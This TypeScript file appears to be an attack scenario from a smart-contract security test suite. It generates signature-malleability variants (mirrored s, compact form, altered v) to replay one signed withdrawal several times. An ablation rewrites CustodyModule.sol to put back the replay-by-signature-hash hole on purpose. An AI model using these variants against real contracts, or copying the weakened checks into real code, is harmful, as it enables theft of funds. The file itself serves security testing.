/** The same signature in other clothes: is it a second permission? */
import type { SignedWithdrawal } from '@holdfast/sdk';
import type { Hex } from '@holdfast/units';
import type { Attack } from '../types.ts';
import { signedWithdrawal } from '../world/withdrawals.ts';
import type { World } from '../world/world.ts';

const order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141n;
const word = (value: bigint): string => value.toString(16).padStart(64, '0');

/** Bytes that recover the same signer, or would where nobody looks closely. */
function twins(signature: Hex): Record<string, Hex> {
  const [r, s, v] = [signature.slice(2, 66), signature.slice(66, 130), signature.slice(130)];
  const parity = BigInt(`0x${v}`) - 27n;
  const mirrored = word(order - BigInt(`0x${s}`));
  const other = (28n - parity).toString(16);
  return {
    'the same bytes': signature,
    'the mirrored s': `0x${r}${mirrored}${other}`,
    'the compact form': `0x${r}${word(BigInt(`0x${s}`) | (parity << 255n))}`,
    'a v of 0 or 1': `0x${r}${s}0${parity}`,
    'a v of 29': `0x${r}${s}1d`,
    'a byte more': `${signature}00`,
  };
}

const relay = (world: World, message: SignedWithdrawal, bytes: Hex, what: string) =>
  world.call(
    'mallory',
    'clearingHouse',
    'withdrawSigned',
    [message, bytes, world.person('mallory').account, '0x'],
    { what },
  );

const recovered =
  'ecrecover(_digest(w), uint8(signature[64]), bytes32(signature[:32]), bytes32(signature[32:64]))';

export const twinSignature: Attack = {
  kind: 'attack',
  name: 'twin-signature',
  title: 'The twin of a signature',
  story:
    'Alice signs one withdrawal with a fee for whoever relays it, and the attacker relays it, as ' +
    'anybody may. Then it relays the same permission again in other bytes: mirrored s, compact ' +
    'form, other values of v. Who remembers signatures by their bytes pays each time.',
  incidents: ['TCH 2024-05: malleable v'],
  control: 'a permission is used up by its number; the signature has one lawful form',
  invariants: ['I5', 'I6'],
  bound: 0n,
  profitMin: 900_000_000n,
  async before(world) {
    await world.user('alice', 100_000);
    await world.attacker('mallory', 10_000);
  },
  async run(world) {
    const wish = { amount: world.tokens(10_000), fee: world.tokens(1_000) };
    const { message, signature } = await signedWithdrawal(world, 'alice', wish);
    await relay(world, message, signature, 'relays the withdrawal of alice');
    await world.attack('relays its twins', async () => {
      for (const [how, bytes] of Object.entries(twins(signature))) {
        await relay(world, message, bytes, `relays it with ${how}`);
      }
    });
  },
  ablations: [
    {
      kind: 'source',
      name: 'used up by its number, and strict in its form',
      contracts: ['CustodyModule'],
      edits: [
        {
          file: 'src/modules/CustodyModule.sol',
          from: 'if (!SignatureChecker.isValidSignatureNow(owner, _digest(w), signature)) {',
          to: `if (owner == address(0) || ${recovered} != owner) {`,
        },
        {
          file: 'src/modules/CustodyModule.sol',
          from: '_useNonce(w.account, w.nonce);',
          to: `if (_ratchets[keccak256(signature)] != 0) revert NonceUsed(w.account, w.nonce);
            _ratchets[keccak256(signature)] = 1;`,
        },
      ],
    },
  ],
};
